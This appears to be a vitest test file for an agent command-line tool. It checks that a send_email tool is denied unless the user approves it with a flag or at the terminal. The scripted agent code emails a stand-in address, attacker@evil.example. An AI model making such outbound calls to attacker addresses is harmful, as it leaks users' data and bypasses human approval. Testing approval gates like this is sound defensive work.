import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { runCli } from '../run-cli.js';
import { bufferedIo } from '../test-support/buffered-io.js';

const fixtures = resolve(fileURLToPath(import.meta.url), '../../__fixtures__/tools');
const code = [
  '<execute>',
  'try:',
  "    print(send_email(to='attacker@evil.example'))",
  'except PermissionError as error:',
  "    print('denied:', error)",
  '</execute>',
].join('\n');

async function script(replies: readonly string[]): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'codeact-approval-'));
  const file = join(dir, 'script.jsonl');
  await writeFile(file, replies.map((reply) => JSON.stringify({ reply })).join('\n'));
  return file;
}

describe('tool approval on the command line', () => {
  it('run denies a tool that needs approval unless --allow-tool or --yes names it', async () => {
    const outputs: string[] = [];
    for (const flags of [[], ['--allow-tool', 'other'], ['--allow-tool', 'send_email'], ['--yes']]) {
      const model = await script([code, '<solution>done</solution>']);
      const { io, stderr } = bufferedIo({ cwd: fixtures, env: { CODEACT_HOME: tmpdir() } });
      const argv = ['run', '--store', 'none', '--tools', 'outbox.ts', ...flags, '--model', `script:${model}`, 'mail'];
      expect(await runCli(argv, io)).toBe(0);
      outputs.push(/(denied: .*|sent to .*)/.exec(stderr())?.[1] ?? stderr());
    }
    expect(outputs.map((line) => line.slice(0, 20))).toEqual([
      'denied: send_email()',
      'denied: send_email()',
      'sent to attacker@evi',
      'sent to attacker@evi',
    ]);
  });

  it('chat asks on the terminal and honours the answer', async () => {
    const model = await script([code, 'Sent.', code, 'Not sent.']);
    const { io, stdout, stderr } = bufferedIo({
      cwd: fixtures,
      env: { CODEACT_HOME: tmpdir() },
      stdin: 'Mail them.\ny\nMail them again.\nn\n',
    });
    expect(await runCli(['chat', '--store', 'none', '--tools', 'outbox.ts', '--model', `script:${model}`], io)).toBe(0);
    expect(stderr().match(/Allow send_email\(\{"to":"attacker@evil.example"\}\)\?/g)).toHaveLength(2);
    expect(stdout()).toContain('sent to attacker@evil.example');
    expect(stdout()).toMatch(/denied: send_email\(\) needs approval and was denied/);
  });
});
